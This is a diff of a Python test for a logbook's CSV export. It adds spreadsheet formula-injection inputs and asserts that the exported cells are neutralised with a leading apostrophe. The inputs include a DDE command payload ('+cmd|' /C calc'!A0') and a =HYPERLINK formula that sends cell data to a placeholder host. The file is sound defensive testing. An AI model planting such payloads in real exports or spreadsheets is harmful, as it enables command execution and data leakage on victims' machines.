@@ -4,7 +4,9 @@ idempotence, the command line, the export -> import round trip and a 20,000-row 
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
+import io
 import random
 import time
 from pathlib import Path
@@ -211,17 +213,25 @@ def test_command_line_dry_run_then_import(world, capsys):
 # --- Export -> import round trip into an empty database -------------------------------------------
 
 
-def test_export_then_import_into_an_empty_database_gives_the_same_entries(world, request, tmp_path, monkeypatch):
+def test_export_starts_no_formula_and_imports_into_an_empty_database_as_the_same_entries(
+        world, request, tmp_path, monkeypatch):
     now = dt.datetime(2026, 11, 20, 12, tzinfo=dt.UTC)
     for day, livrable, tache, cats, news in [
         (dt.date(2026, 5, 4), "API, v1", 'Écrit "la" doc\nsur deux lignes', [C.A, C.P], 1),
         (dt.date(2026, 5, 4), "", "Tronqué...", [C.U], -1),
         (dt.date(2026, 6, 1), "Données", "  espaces et ; points-virgules ", [C.D, C.M, C.T], 0),
+        (dt.date(2026, 6, 2), "+cmd|' /C calc'!A0", '=HYPERLINK("http://x.test/?"&A1,"clic")', [C.P], 1),
+        (dt.date(2026, 6, 3), "@SUM(1)", "-2+3", [C.P], -1),
+        (dt.date(2026, 6, 4), "'=déjà", "- liste\n=2", [C.P], 0),
+        (dt.date(2026, 6, 5), "-3", "'texte entre apostrophes'", [C.P], 0),
     ]:
         logbook.add_entry(world.eig, world.alpha_id, LogEntryIn(done_on=day, livrable=livrable, tache=tache,
                                                                 categories=cats, news=news), now=now)
     exported = logbook.export_csv(world.coach, world.alpha_id)
     original = [r[:5] for r in rows_of(world.alpha_id)]
+    cells = [c for row in csv.reader(io.StringIO(exported.decode("utf-8-sig"), newline="")) for c in row]
+    assert [c for c in cells if c[:1] in ("=", "+", "-", "@") and c not in ("-1", "-3")] == []
+    assert "'=HYPERLINK(\"http://x.test/?\"&A1,\"clic\")" in cells and "''=déjà" in cells and "-3" in cells
 
     kind = "sqlite" if db.get_engine().url.get_backend_name() == "sqlite" else "postgresql"
     (tmp_path / "empty").mkdir()
